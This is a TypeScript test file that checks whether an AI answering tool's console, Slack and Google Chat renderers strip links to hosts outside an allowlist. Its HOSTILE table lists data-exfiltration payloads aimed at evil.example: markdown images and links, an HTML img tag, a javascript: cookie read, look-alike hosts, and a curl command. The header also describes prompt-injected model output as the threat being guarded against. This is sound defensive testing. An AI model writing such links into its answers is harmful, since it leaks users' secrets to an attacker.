/**
 * Links in answers cannot carry data out. A model that read hostile text can write any
 * link; an answer may link only to the allowlist (PUBLIC_BASE_URL's host plus
 * KOTAE_LINK_HOSTS), on every converter. If this breaks, one click on
 * "![x](https://evil.example/collect?d=SECRET)" in the console, Slack or Google Chat sends
 * the secret to that host, or a platform's link preview fetches it with no click at all.
 */
import { describe, expect, it } from 'vitest';
import { loadConfig } from '../../src/config/config.ts';
import type { Reply } from '../../src/core/reply.ts';
import { toConsoleHtml } from '../../src/render/console-html.ts';
import { toChatMessages } from '../../src/render/gchat-cards.ts';
import { linkPolicy, type LinkPolicy } from '../../src/render/link-policy.ts';
import { toSlackMessages } from '../../src/render/slack-blocks.ts';

const config = loadConfig({ PUBLIC_BASE_URL: 'https://kotae.example/', KOTAE_LINK_HOSTS: 'docs.example' });
const links = linkPolicy(config.links.hosts);

/** Every way an answer might carry a link to a host off the list. */
const HOSTILE: Record<string, string> = {
  'markdown image': '![x](https://evil.example/collect?d=SECRET)',
  'markdown link': '[click](https://evil.example/?q=SECRET)',
  'bare URL': 'see https://evil.example/p?d=SECRET now',
  'HTML img': '<img src="https://evil.example/i.png?d=SECRET">',
  'javascript: URL': '[run](javascript:alert(document.cookie))',
  'Slack-style link': '<https://evil.example/?d=SECRET|label>',
  'punycode look-alike': '[home](https://xn--ktae-55d.example/?d=SECRET)',
  'Unicode look-alike': '[home](https://kоtae.example/?d=SECRET)',
  'allowed host as a subdomain': '[home](https://kotae.example.evil.example/?d=SECRET)',
  'allowed host as credentials': '[home](https://kotae.example@evil.example/?d=SECRET)',
  'glued to a word': 'xhttps://evil.example/?d=SECRET',
  'in code': '`https://evil.example/?d=SECRET`\n\n```\ncurl https://evil.example/?d=SECRET\n```',
  'in a table': '| a |\n|---|\n| https://evil.example/?d=SECRET |',
};

const ALLOWED = 'Dashboard: [open](https://kotae.example/console?c=sales) and https://docs.example/guide';

type Converter = (reply: Reply, policy: LinkPolicy) => string[];

/** Each converter's output as the strings a platform reads (HTML, mrkdwn, card HTML). */
const CONVERTERS: Record<string, Converter> = {
  console: (reply, policy) => [toConsoleHtml({ kind: 'reply', reply }, { links: policy })],
  slack: (reply, policy) =>
    toSlackMessages({ kind: 'reply', reply }, { links: policy }).map((m) => JSON.stringify(m)),
  gchat: (reply, policy) =>
    toChatMessages({ kind: 'reply', reply }, { links: policy }).map((m) => JSON.stringify(m)),
};

/** The hosts of every link or image target in a converter's output. */
function linkTargets(name: string, outputs: string[]): string[] {
  const targets: string[] = [];
  for (const output of outputs) {
    // Fallback text is plain text (a notification line), never markup.
    const text =
      name === 'console'
        ? output
        : output.replace(/"fallbackText":"(?:[^"\\]|\\.)*"/, '').replace(/\\"/g, '"');
    if (name === 'slack') {
      // mrkdwn links are <url> or <url|label>; the text escapes every other "<".
      for (const match of text.matchAll(/<([a-z][a-z0-9+.-]*:[^|>]+)[|>]/gi)) targets.push(match[1]!);
      for (const match of text.matchAll(/"(?:image_url|url)":"([^"]+)"/g)) targets.push(match[1]!);
    } else {
      for (const match of text.matchAll(/<(?:a|img)\b[^>]*\s(?:href|src)="([^"]*)"/gi))
        targets.push(match[1]!);
      for (const match of text.matchAll(/"(?:imageUrl|url)":"([^"]+)"/g)) targets.push(match[1]!);
    }
  }
  return targets;
}

const host = (url: string) => {
  try {
    return new URL(url.replace(/&amp;/g, '&')).hostname;
  } catch {
    return url;
  }
};

describe('links in answers', () => {
  it('the allowlist is PUBLIC_BASE_URL’s host plus KOTAE_LINK_HOSTS', () => {
    expect(config.links.hosts).toEqual(['kotae.example', 'docs.example']);
    expect(loadConfig({}).links.hosts).toEqual(['localhost']);
  });

  for (const [name, convert] of Object.entries(CONVERTERS)) {
    describe(`on ${name}`, () => {
      for (const [attack, text] of Object.entries(HOSTILE)) {
        it(`never links or embeds a ${attack}, and shows its host as text`, () => {
          const outputs = convert({ kind: 'answer', locale: 'en', text }, links);
          const targets = linkTargets(name, outputs);
          expect(targets.filter((url) => !['kotae.example', 'docs.example'].includes(host(url)))).toEqual([]);
          const all = outputs.join('\n');
          // The secret-carrying URL is nowhere in a form a platform could auto-link.
          expect(all).not.toMatch(/https?:\/\/[^\s"<>]*evil/);
          expect(all).not.toMatch(/\bevil\.example/);
          expect(all).not.toContain('javascript:alert');
          if (attack !== 'javascript: URL')
            expect(all).toMatch(/evil\[\.\]example|xn--ktae-55d\[\.\]example/);
        });
      }

      it('still links the allowlisted hosts', () => {
        const targets = linkTargets(name, convert({ kind: 'answer', locale: 'ja', text: ALLOWED }, links));
        expect(targets.map(host)).toEqual(['kotae.example', 'docs.example']);
      });

      it('links nothing at all when no policy is given', () => {
        const outputs =
          name === 'console'
            ? [toConsoleHtml({ kind: 'reply', reply: { kind: 'answer', locale: 'ja', text: ALLOWED } })]
            : convert({ kind: 'answer', locale: 'ja', text: ALLOWED }, { allows: () => false });
        expect(linkTargets(name, outputs)).toEqual([]);
        expect(outputs.join('')).toContain('kotae[.]example/…');
      });

      it('shows a URL in a result-table cell as text, never a link', () => {
        const reply: Reply = {
          kind: 'answer',
          locale: 'en',
          text: 'Rows:',
          table: {
            columns: [{ name: 'url', type: 'STRING' }],
            rows: [['https://evil.example/?d=SECRET']],
            totalRows: 1,
            truncated: false,
          },
        };
        const all = convert(reply, links).join('\n');
        expect(all).not.toMatch(/evil\.example/);
        expect(all).toContain('evil[.]example/…');
      });
    });
  }
});
